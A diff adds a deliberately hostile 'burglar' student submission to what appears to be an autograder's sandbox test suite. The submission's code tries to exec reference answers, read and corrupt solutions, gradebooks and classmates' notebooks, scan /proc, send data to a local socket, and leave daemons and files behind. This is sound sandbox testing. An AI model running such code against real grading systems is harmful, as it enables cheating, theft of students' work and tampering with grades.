@@ -175,6 +175,140 @@ FAULTY = [
 ]  # fmt: skip
 CLASS = NORMAL + FAULTY
 
+# A submission that reaches for everything that is not its own: the course package (the
+# exploit of issue 20: from `autograder` to the course root, then exec the reference answers),
+# solutions, gradebooks, nbgrader's copy of its notebook with the hidden tests, the other
+# submissions, the grader's processes through /proc, a server on 127.0.0.1, a process left
+# behind, files written next to all of those. Its own answers are WRONG's (2 points); each
+# thing it reaches prints a line with REACHED_MARK, and the exploit would raise it to 6.
+REACHED_MARK = "BURGLED"
+DAEMON_MARK = "burglar-daemon"
+WRITTEN_MARK = "burglar-was-here"
+BURGLAR_ATTEMPTS = 9
+BURGLAR_DEPTH = 8  # parents of the kernel's working folder it searches (see below)
+BURGLAR = """\
+def add(a, b):
+    return abs(a) + abs(b)
+
+
+def double(xs):
+    return [x + x for x in xs if x]
+
+
+import glob, json, os, socket, subprocess, sys
+from pathlib import Path
+
+_mark = "".join(["BUR", "GLED"])
+_tried, _reached = [], []
+_here = Path.cwd()
+# nbgrader's folder for this notebook and its parents up to the test's temporary folder
+# (<basetemp>/<run>/tmp/<grade-class-*>/<job>/course/autograded/burglar/99_synthetic): no
+# further, so that a broken sandbox spoils nothing but the test's own files.
+_around = [_here, *_here.parents[:{depth}]]
+
+
+def _attempt(what, action):
+    _tried.append(what)
+    try:
+        found = action()
+    except Exception:
+        return
+    if found:
+        _reached.append(what)
+        print(_mark, what, str(found)[:200])
+
+
+def _files(*patterns):
+    found = []
+    for folder in _around:
+        for pattern in patterns:
+            found += [Path(p) for p in glob.glob(str(folder / pattern)) if Path(p).is_file()]
+    return sorted(set(found))
+
+
+def _read(paths):
+    got = {{}}
+    for path in paths:
+        with open(path, "rb") as f:
+            got[str(path)] = f.read(100)
+        with open(path, "ab") as f:  # and spoil it
+            f.write(b"%s")
+    return got
+
+
+def _exploit():
+    notebooks = _files("*/solutions/*/exercises.ipynb", "solutions/*/exercises.ipynb")
+    try:
+        import autograder  # the course root, then its solutions/
+        notebooks += Path(autograder.__file__).resolve().parent.parent.glob("solutions/*/*.ipynb")
+    except ImportError:
+        pass
+    used = []
+    for notebook in [n for n in notebooks if n.parent.name == "99_synthetic"]:
+        for cell in json.loads(notebook.read_text())["cells"]:
+            grade_id = cell["metadata"].get("nbgrader", {{}}).get("grade_id")
+            if grade_id in ("task1-solution", "task2-solution"):
+                exec("".join(cell["source"]), globals())
+                used.append(str(notebook))
+    return used
+
+
+def _proc_cwds():
+    seen = {{}}
+    for pid in {{os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]}}:
+        try:
+            names = set(os.listdir(f"/proc/{{pid}}/cwd"))
+        except OSError:
+            continue
+        if names & {{"solutions", "gradebook.db", "submitted", "autograded", "autograder"}}:
+            seen[pid] = sorted(names)[:5]
+    return seen
+
+
+def _network():
+    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
+        connection.sendall(b"stolen")
+    return "connected"
+
+
+def _daemon():
+    code = "import os, time\\nif os.fork(): os._exit(0)\\nos.setsid()\\ntime.sleep(600)"
+    subprocess.Popen([sys.executable, "-c", code, "{daemon}"], start_new_session=True)
+    subprocess.Popen(["sleep", "600"], start_new_session=True)
+    return None  # whether it outlives the grading is for the test to see
+
+
+def _write_around():
+    for folder in _around[1:]:
+        try:
+            (folder / "{written}").write_text("x")
+        except OSError:
+            pass
+    return None  # whether a file changed outside the box is for the test to see
+
+
+_attempt("exploit", _exploit)
+_attempt("solutions", lambda: _read(_files("*/solutions/*/*.ipynb", "solutions/*/*.ipynb")))
+_attempt("gradebook", lambda: _read(_files("*.db", "*/*.db", "*/*/*.db")))
+_attempt("hidden tests", lambda: _read(_files("*.ipynb", "*/*/autograded/*/*/*.ipynb")))
+_attempt("other students", lambda: _read(
+    [p for p in _files("*/submitted/*/*/*.ipynb", "*/*/*/submitted/*/*/*.ipynb")
+     if "burglar" not in str(p)]
+))
+_attempt("grader's folders through /proc", _proc_cwds)
+_attempt("network", _network)
+_attempt("background process", _daemon)
+_attempt("writes", _write_around)
+print("".join(["burglar tried ", str(len(_tried)), " ways, reached ", str(len(_reached))]))
+"""
+
+
+def burglar(port: int) -> Student:
+    """The submission above, aimed at a server listening on ``port`` of 127.0.0.1."""
+    code = BURGLAR.format(port=port, daemon=DAEMON_MARK, written=WRITTEN_MARK, depth=BURGLAR_DEPTH)
+    answers = {"task1-solution": code, "task2-solution": "# double is in my first answer"}
+    return Student("burglar", "graded", 2, _notebook(_answer(answers)))
+
 
 def write_class(released: Path, submitted: Path, students: list[Student]) -> None:
     """nbgrader's tree: ``submitted/<student>/99_synthetic/<notebook>``."""
